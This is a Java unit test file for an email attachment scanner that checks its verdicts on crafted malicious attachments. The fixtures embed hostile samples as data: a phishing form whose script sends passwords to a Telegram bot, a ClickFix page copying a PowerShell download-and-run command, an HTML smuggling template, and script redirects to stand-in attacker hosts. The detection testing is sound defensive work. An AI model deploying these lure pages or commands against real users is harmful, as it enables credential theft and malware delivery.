package io.rampart.core.attachments;

import static io.rampart.core.attachments.Fixtures.details;
import static io.rampart.core.attachments.Fixtures.scan;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;

import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

import io.rampart.core.message.Attachment;
import io.rampart.core.signatures.TestSignatureAnalyzer;
import io.rampart.core.attachments.documents.MarkupInspector;
import io.rampart.core.verdict.Verdict;
import io.rampart.core.verdict.VerdictClass;

/** Files, archives and documents, each in a complete message through the standard engine. */
class AttachmentMessageTest {
    private static final byte[] EICAR = TestSignatureAnalyzer.EICAR.getBytes(StandardCharsets.US_ASCII);
    private static final byte[] SCRIPT = "WScript.Shell.Run(\"powershell -enc AAAA\")".getBytes(StandardCharsets.US_ASCII);

    private static Verdict scanAttachment(String type, String name, byte[] content) {
        return scan(Fixtures.Mime.mixed("Documents").text("Please find the documents attached.")
            .attach(type, name, content).build());
    }

    @Nested
    class FileTyping {
        @Test
        void executableNamedAsPdfShouldBeADisguisedExecutable() {
            Verdict verdict = scanAttachment("application/pdf", "invoice.pdf", Documents.PE);

            assertThat(details(verdict, "file.disguised-executable"))
                .containsExactly("'invoice.pdf' (part 1.2): named .pdf but is a Windows PE executable");
            assertThat(verdict.verdictClass()).isEqualTo(VerdictClass.MALWARE);
        }

        @Test
        void doubleExtensionShouldBeReported() {
            Verdict verdict = scanAttachment("application/octet-stream", "invoice.pdf.exe", Documents.PE);

            assertThat(details(verdict, "file.double-extension"))
                .containsExactly("'invoice.pdf.exe' (part 1.2): executable disguised by a double extension (.pdf.exe)");
        }

        @Test
        void rightToLeftOverrideNameShouldBeReported() {
            Verdict verdict = scanAttachment("application/octet-stream", "invoice\u202Efdp.scr", Documents.PE);

            assertThat(details(verdict, "file.bidi-name")).singleElement().asString()
                .contains("invoice<U+202E>fdp.scr");
        }

        @Test
        void diskImageShouldBeReported() {
            byte[] iso = new byte[0x9000];
            System.arraycopy("CD001".getBytes(StandardCharsets.US_ASCII), 0, iso, 0x8001, 5);
            Verdict verdict = scanAttachment("application/octet-stream", "statement.img", iso);

            assertThat(details(verdict, "file.disk-image")).singleElement().asString()
                .startsWith("'statement.img' (part 1.2): disk image (.img)");
        }

        @Test
        void imageNamedAsPdfShouldBeATypeMismatch() {
            Verdict verdict = scanAttachment("application/pdf", "contract.pdf",
                Fixtures.png(Fixtures.noise(64, 64, 1)));

            assertThat(details(verdict, "file.type-mismatch"))
                .containsExactly("'contract.pdf' (part 1.2): named as application/pdf but the content is image/png");
        }

        @Test
        void plainPdfShouldStayClean() {
            Verdict verdict = scanAttachment("application/pdf", "minutes.pdf", Documents.pdf(2, document -> { }));

            assertThat(verdict.score()).isZero();
            assertThat(verdict.complete()).isTrue();
        }
    }

    @Nested
    class Archives {
        @Test
        void scriptInsideZipShouldBeReported() {
            Verdict verdict = scanAttachment("application/zip", "docs.zip", Documents.zip("docs/run.js", SCRIPT));

            assertThat(details(verdict, "file.executable"))
                .containsExactly("'docs.zip' (part 1.2) > docs/run.js: executable or script file (.js)");
            assertThat(verdict.hashes()).contains(Attachment.sha256(SCRIPT));
        }

        @Test
        void executableInside7zShouldBeReported() {
            Verdict verdict = scanAttachment("application/x-7z-compressed", "scan.7z",
                Documents.sevenZ("scan.pdf.exe", Documents.PE));

            assertThat(details(verdict, "file.double-extension")).singleElement().asString()
                .startsWith("'scan.7z' (part 1.2) > scan.pdf.exe");
            assertThat(verdict.hashes()).contains(Attachment.sha256(Documents.PE));
        }

        @Test
        void scriptInsideTarGzShouldBeReported() {
            Verdict verdict = scanAttachment("application/gzip", "backup.tar.gz", Documents.tarGz("update.vbs", SCRIPT));

            assertThat(details(verdict, "file.executable"))
                .containsExactly("'backup.tar.gz' (part 1.2) > backup.tar > update.vbs: executable or script file (.vbs)");
        }

        @Test
        void rarMembersShouldBeListedAndTheArchiveNotFullyScanned() {
            Verdict verdict = scanAttachment("application/x-rar-compressed", "payment.rar",
                Documents.rar4("payment.exe", Documents.PE, false));

            assertThat(details(verdict, "file.executable"))
                .containsExactly("'payment.rar' (part 1.2) > payment.exe: executable or script file (.exe)");
            assertThat(verdict.incompleteReasons()).anySatisfy(reason -> assertThat(reason)
                .contains("RAR archive listed (1 members) but its content was not unpacked"));
        }

        @Test
        void eicarNestedInArchivesShouldBeMalware() {
            byte[] inner = Documents.sevenZ("eicar.com", EICAR);
            byte[] middle = Documents.tarGz("inner.7z", inner);
            byte[] outer = Documents.zip("middle.tgz", middle);
            Verdict verdict = scanAttachment("application/zip", "outer.zip", outer);

            assertThat(verdict.verdictClass()).isEqualTo(VerdictClass.MALWARE);
            assertThat(details(verdict, "malware.eicar")).containsExactly(
                "EICAR test file in 'outer.zip' (part 1.2) > middle.tgz > middle.tar > inner.7z > eicar.com");
        }

        @Test
        void encryptedZipWithPasswordInBodyShouldBeStrong() {
            byte[] message = Fixtures.Mime.mixed("Invoice").text("Invoice attached. The password is: Inv2024")
                .attach("application/zip", "invoice.zip", Documents.encryptedZip("invoice.doc", SCRIPT)).build();

            Verdict verdict = scan(message);

            assertThat(details(verdict, "archive.password-in-body")).singleElement().asString()
                .startsWith("'invoice.zip' (part 1.2): password-protected zip archive whose password the message gives")
                .contains("Inv2024");
            assertThat(verdict.verdictClass()).isEqualTo(VerdictClass.MALWARE);
            assertThat(verdict.complete()).isFalse();
        }

        @Test
        void encryptedZipWithoutPasswordShouldBeWeaker() {
            Verdict verdict = scanAttachment("application/zip", "files.zip", Documents.encryptedZip("a.txt", SCRIPT));

            assertThat(verdict.rules()).contains("archive.encrypted").doesNotContain("archive.password-in-body");
        }
    }

    @Nested
    class OfficeDocuments {
        @Test
        void ooxmlMacroShouldBeReported() {
            Map<String, byte[]> binaries = new LinkedHashMap<>();
            binaries.put("word/vbaProject.bin", Documents.ole("_VBA_PROJECT"));
            Verdict verdict = scanAttachment("application/vnd.ms-word.document.macroEnabled.12", "order.docm",
                Documents.ooxml(Map.of(), binaries));

            assertThat(details(verdict, "office.macro"))
                .containsExactly("'order.docm' (part 1.2): Office document contains VBA macros (word/vbaProject.bin)");
        }

        @Test
        void remoteTemplateShouldBeReportedAndItsUrlAnalysed() {
            String template = "http://198.51.100.9/templates/invoice.dotm";
            String rels = "<?xml version=\"1.0\"?><Relationships><Relationship Id=\"rId1\" "
                + "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" "
                + "Target=\"" + template + "\" TargetMode=\"External\"/></Relationships>";
            Verdict verdict = scanAttachment("application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                "offer.docx", Documents.ooxml(Map.of("word/_rels/settings.xml.rels", rels), Map.of()));

            assertThat(details(verdict, "office.remote-template"))
                .containsExactly("'offer.docx' (part 1.2): document loads a remote template from " + template);
            assertThat(verdict.urls()).contains(template);
            assertThat(verdict.rules()).contains("file.url.ip-host");
        }

        @Test
        void oleMacroShouldBeReported() {
            Verdict verdict = scanAttachment("application/msword", "report.doc", Documents.ole("Root Entry", "Macros",
                "_VBA_PROJECT"));

            assertThat(details(verdict, "office.macro"))
                .containsExactly("'report.doc' (part 1.2): Office document contains VBA macros (_VBA_PROJECT storage)");
        }
    }

    @Nested
    class Pdfs {
        @Test
        void pdfActionsShouldBeReported() {
            String link = "https://docs-share.example-files.top/login";
            Verdict verdict = scanAttachment("application/pdf", "statement.pdf",
                Documents.pdfWithActions(link, "app.alert('hi')", "cmd.exe"));

            assertThat(details(verdict, "pdf.javascript"))
                .containsExactly("document open action: PDF runs JavaScript: app.alert('hi')");
            assertThat(details(verdict, "pdf.launch"))
                .containsExactly("page 1 of 'statement.pdf' (part 1.2): PDF /Launch action starts a program or file 'cmd.exe'");
            assertThat(verdict.urls()).contains(link);
            assertThat(details(verdict, "file.url.credential-path")).singleElement().asString()
                .startsWith("link on page 1 of 'statement.pdf' (part 1.2)");
        }

        @Test
        void eicarEmbeddedInPdfShouldBeMalware() {
            Verdict verdict = scanAttachment("application/pdf", "notice.pdf", Documents.pdfWithEmbeddedFile("a.com", EICAR));

            assertThat(details(verdict, "malware.eicar")).contains("EICAR test file in 'notice.pdf' (part 1.2) > a.com");
            assertThat(verdict.rules()).contains("pdf.embedded-file");
        }
    }

    @Nested
    class Markup {
        @Test
        void htmlCredentialFormShouldBePhish() {
            String page = "<html><body><form action=\"https://collect.example-login.top/p.php\" method=\"post\">"
                + "<input type=\"email\" name=\"u\"><input type=\"password\" name=\"p\"></form></body></html>";
            Verdict verdict = scanAttachment("text/html", "Secure_Message.html", page.getBytes(StandardCharsets.UTF_8));

            assertThat(details(verdict, "html.credential-form")).containsExactly(
                "'Secure_Message.html' (part 1.2): HTML file attachment asks for a password, form posts to "
                    + "https://collect.example-login.top/p.php");
            assertThat(verdict.verdictClass()).isEqualTo(VerdictClass.PHISH);
            assertThat(verdict.urls()).contains("https://collect.example-login.top/p.php");
        }

        @Test
        void aPageTheScriptWritesIsInspectedLikeTheFile() {
            String form = "<html><body><h2>Sign in to view the document</h2><form id=\"f\"><input type=\"email\" name=\"u\">"
                + "<input type=\"password\" name=\"p\"></form><script>fetch(\"https://api.telegram.org/bot77123:AAH/sendMessage"
                + "?chat_id=1&text=\"+document.forms[0].p.value)</script></body></html>";
            String written = "<html><head><script>document.write(atob(\""
                + java.util.Base64.getEncoder().encodeToString(form.getBytes(StandardCharsets.UTF_8)) + "\"));</script></head></html>";
            Verdict verdict = scanAttachment("text/html", "Remittance.html", written.getBytes(StandardCharsets.UTF_8));

            assertThat(details(verdict, "html.credential-form")).containsExactly(
                "'Remittance.html' (part 1.2) > markup its script writes: HTML file attachment asks for a password");
            assertThat(details(verdict, "html.exfiltration")).containsExactly("'Remittance.html' (part 1.2) > markup its "
                + "script writes: HTML file attachment's script sends data to api.telegram.org/bot");
            assertThat(verdict.verdictClass()).isEqualTo(VerdictClass.PHISH);
        }

        @Test
        void percentEncodedPagesAndDottedTextBoxesToo() {
            String form = "<form><input type=\"text\" style=\"-webkit-text-security:disc\" name=\"p\"></form>";
            StringBuilder escaped = new StringBuilder();
            for (byte b : form.getBytes(StandardCharsets.UTF_8)) {
                escaped.append(String.format("%%%02x", b));
            }
            String written = "<script>var s = unescape(\"" + escaped + "\"); document.write(s);</script>";
            Verdict verdict = scanAttachment("text/html", "scan.htm", written.getBytes(StandardCharsets.UTF_8));

            assertThat(verdict.rules()).contains("html.credential-form", "html.obfuscated-script");
            assertThat(MarkupInspector.percentDecoded("%3Cb%3E%u4E2D%E6%96%87 50% off %zz%")).isEqualTo("<b>中文 50% off %zz%");
        }

        @Test
        void decodedTextThatIsNoMarkupIsLeftAlone() {
            String page = "<html><body><p>Total: <span id=\"t\"></span></p><script>document.getElementById('t').textContent = "
                + "atob(\"MTIzNC41NiBFVVIgZHVlIG9uIDMwIE5vdmVtYmVy\");</script></body></html>";
            Verdict verdict = scanAttachment("text/html", "statement.html", page.getBytes(StandardCharsets.UTF_8));

            assertThat(verdict.rules()).doesNotContain("html.credential-form", "html.exfiltration");
        }

        @Test
        void aPageThatCopiesACommandForTheReaderIsClickFix() {
            String page = "<html><body><h2>Word could not open the file.</h2><p>Click Fix, press Windows + R, then Ctrl + V and"
                + " Enter.</p><button onclick=\"fix()\">Fix</button><script>function fix() { navigator.clipboard.writeText("
                + "'powershell -w 1 -c \"iex(irm https://docs-fix-cdn.example/r.txt)\"'); }</script></body></html>";
            Verdict verdict = scanAttachment("text/html", "Remittance.html", page.getBytes(StandardCharsets.UTF_8));

            assertThat(details(verdict, "html.clipboard-command")).containsExactly("'Remittance.html' (part 1.2): HTML file"
                + " attachment's script copies a command ('powershell') to the clipboard, for the reader to paste into Run or"
                + " a terminal");
            assertThat(verdict.verdictClass()).isEqualTo(VerdictClass.MALWARE);
        }

        @Test
        void aPageWithACopyButtonForOrdinaryTextIsNoClickFix() {
            String page = "<html><body><p>Your voucher: <b id=\"v\">XMAS-2026-4411</b></p><button onclick=\"navigator.clipboard"
                + ".writeText(document.getElementById('v').textContent)\">Copy</button></body></html>";
            Verdict verdict = scanAttachment("text/html", "voucher.html", page.getBytes(StandardCharsets.UTF_8));

            assertThat(verdict.rules()).doesNotContain("html.clipboard-command", "text.paste-and-run");
        }

        @Test
        void htmlScriptRedirectShouldBeReported() {
            String page = "<html><head><script>window.location.href = 'https://evil.example-redirect.top/x';</script>"
                + "</head></html>";
            Verdict verdict = scanAttachment("text/html", "fax.htm", page.getBytes(StandardCharsets.UTF_8));

            assertThat(details(verdict, "html.script-redirect")).singleElement().asString()
                .startsWith("'fax.htm' (part 1.2): HTML file attachment sends the browser elsewhere with script");
            assertThat(verdict.urls()).contains("https://evil.example-redirect.top/x");
        }

        @Test
        void htmlApplicationNamedAsHtmlShouldBeAnExecutable() {
            String hta = "<html><head><HTA:APPLICATION ID=\"x\"><script language=\"VBScript\">CreateObject(\"WScript.Shell\")"
                + "</script></head></html>";
            Verdict verdict = scanAttachment("text/html", "statement.html", hta.getBytes(StandardCharsets.UTF_8));

            assertThat(details(verdict, "file.executable"))
                .containsExactly("'statement.html' (part 1.2): HTML application (HTA) that runs with the user's rights");
        }

        @Test
        void svgScriptShouldBeReported() {
            String svg = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>location.replace(atob('aHR0cA=='))</script></svg>";
            Verdict verdict = scanAttachment("image/svg+xml", "voicemail.svg", svg.getBytes(StandardCharsets.UTF_8));

            assertThat(verdict.rules()).contains("svg.script", "html.script-redirect", "html.obfuscated-script");
        }

        @Test
        void anSvgThatOpensAWebPageWhenClickedShouldBeReported() {
            String svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"400\" height=\"200\">"
                + "<a href=\"https://voicemail-listen.pages.dev/?u=bob\"><rect width=\"400\" height=\"200\" fill=\"#0078d4\"/>"
                + "<text x=\"20\" y=\"100\">Play voice message</text></a></svg>";
            Verdict verdict = scanAttachment("image/svg+xml", "VM_0042.svg", svg.getBytes(StandardCharsets.UTF_8));

            assertThat(details(verdict, "svg.link")).containsExactly(
                "'VM_0042.svg' (part 1.2): SVG image opens https://voicemail-listen.pages.dev/?u=bob when clicked");
            assertThat(verdict.rules()).contains("link.free-hosting");
        }

        @Test
        void anSvgChartWithInternalReferencesIsNotALink() {
            String svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">"
                + "<defs><path id=\"bar\" d=\"M0 0h10v40H0z\"/></defs><use xlink:href=\"#bar\" x=\"5\"/>"
                + "<a xlink:href=\"#legend\"><text>Legend</text></a>"
                + "<image xlink:href=\"https://charts.example.com/logo.png\" width=\"20\" height=\"20\"/></svg>";
            Verdict verdict = scanAttachment("image/svg+xml", "q3-sales.svg", svg.getBytes(StandardCharsets.UTF_8));

            assertThat(verdict.rules()).doesNotContain("svg.link", "svg.script");
        }

        /** The page a smuggling lure attaches: its script decodes a file, wraps it in a Blob and clicks a download link. */
        private String smugglingPage(String payload, String saveAs) {
            return "<html><body><p>Loading your secure document...</p><script>\n"
                + "var d = \"" + payload + "\";\n"
                + "var bytes = Uint8Array.from(atob(d), function (c) { return c.charCodeAt(0); });\n"
                + "var blob = new Blob([bytes], {type: 'application/octet-stream'});\n"
                + "var a = document.createElement('a'); a.href = window.URL.createObjectURL(blob);\n"
                + "a.download = '" + saveAs + "'; document.body.appendChild(a); a.click();\n"
                + "</script></body></html>";
        }

        @Test
        void htmlSmugglingAZippedExecutableShouldBeMalwareAndTheFileAnalysed() {
            String payload = java.util.Base64.getEncoder().encodeToString(Documents.zip("Invoice_4471.exe", Documents.PE));
            Verdict verdict = scanAttachment("text/html", "Secure_Viewer.html",
                smugglingPage(payload, "Invoice_4471.zip").getBytes(StandardCharsets.UTF_8));

            assertThat(details(verdict, "html.smuggling")).containsExactly("'Secure_Viewer.html' (part 1.2): HTML file "
                + "attachment carries a zip archive in its script and makes the browser save it as 'Invoice_4471.zip'");
            assertThat(details(verdict, "file.executable")).singleElement().asString()
                .contains("'Invoice_4471.zip' (built by its script)").contains("Invoice_4471.exe");
            assertThat(verdict.verdictClass()).isEqualTo(VerdictClass.MALWARE);
        }

        @Test
        void htmlSmugglingWhosePayloadCannotBeReadShouldStillBeReportedByTheFileItSaves() {
            String scrambled = "QkVHSU4gWE9SIEtFWQ".repeat(20);
            Verdict verdict = scanAttachment("text/html", "fax.html",
                smugglingPage(scrambled, "Fax_Message.iso").getBytes(StandardCharsets.UTF_8));

            assertThat(verdict.findings()).filteredOn(f -> f.rule().equals("html.smuggling"))
                .singleElement().satisfies(finding -> {
                    assertThat(finding.score()).isEqualTo(io.rampart.core.attachments.documents.MarkupInspector.SMUGGLING_SCORE);
                    assertThat(finding.detail()).contains("saves it as 'Fax_Message.iso'");
                });
        }

        @Test
        void aPageThatExportsATableAsCsvIsNotSmuggling() {
            String page = "<html><body><table id=t><tr><td>Q3</td><td>1200</td></tr></table><script>\n"
                + "function exportCsv() { var rows = document.querySelectorAll('#t tr'); var csv = '';\n"
                + "rows.forEach(function (r) { csv += r.innerText.replace(/\\t/g, ',') + '\\n'; });\n"
                + "var blob = new Blob([csv], {type: 'text/csv'}); var a = document.createElement('a');\n"
                + "a.href = URL.createObjectURL(blob); a.download = 'report.csv'; a.click(); }\n"
                + "</script><button onclick=\"exportCsv()\">Export</button></body></html>";
            Verdict verdict = scanAttachment("text/html", "report.html", page.getBytes(StandardCharsets.UTF_8));

            assertThat(verdict.rules()).doesNotContain("html.smuggling");
            assertThat(verdict.verdictClass()).isEqualTo(VerdictClass.CLEAN);
        }

        @Test
        void calendarInviteLinksShouldBeAnalysed() {
            String ics = "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Payroll review\r\n"
                + "DESCRIPTION:Join at http://203.0.113.50/meet\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n";
            Verdict verdict = scanAttachment("text/calendar", "invite.ics", ics.getBytes(StandardCharsets.UTF_8));

            assertThat(verdict.urls()).contains("http://203.0.113.50/meet");
            assertThat(details(verdict, "file.url.ip-host")).singleElement().asString()
                .startsWith("'invite.ics' (part 1.2)");
        }
    }
}
